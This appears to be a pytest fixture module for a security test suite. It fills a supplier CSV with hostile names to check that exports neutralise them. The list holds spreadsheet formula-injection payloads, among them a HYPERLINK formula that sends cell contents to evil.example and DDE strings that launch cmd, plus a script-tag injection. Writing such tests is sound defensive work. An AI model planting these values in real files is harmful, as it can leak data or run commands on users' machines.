"""Hostile inputs for the security suite, made small in each test's tmp_path."""
from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pytest

DATA = Path(__file__).resolve().parents[1] / "data"

#: Names an attacker (or a careless export) puts into a supplier list.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+31 20 123 4567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "<!--<script>alert(1)</script>",
    "line\nbreak",
    "lone\rcarriage return",
    "http://evil.example/",
]


@pytest.fixture
def hostile_chain(tmp_path) -> Path:
    """gold_small with every actor renamed to a hostile name (ids untouched)."""
    folder = tmp_path / "hostile"
    shutil.copytree(DATA / "gold_small", folder)
    actors = pd.read_csv(folder / "actors.csv", dtype=str, keep_default_na=False)
    actors["name"] = [HOSTILE_NAMES[i % len(HOSTILE_NAMES)] for i in range(len(actors))]
    actors["note"] = [HOSTILE_NAMES[(i + 5) % len(HOSTILE_NAMES)] for i in range(len(actors))]
    actors.to_csv(folder / "actors.csv", index=False, lineterminator="\r\n")
    return folder
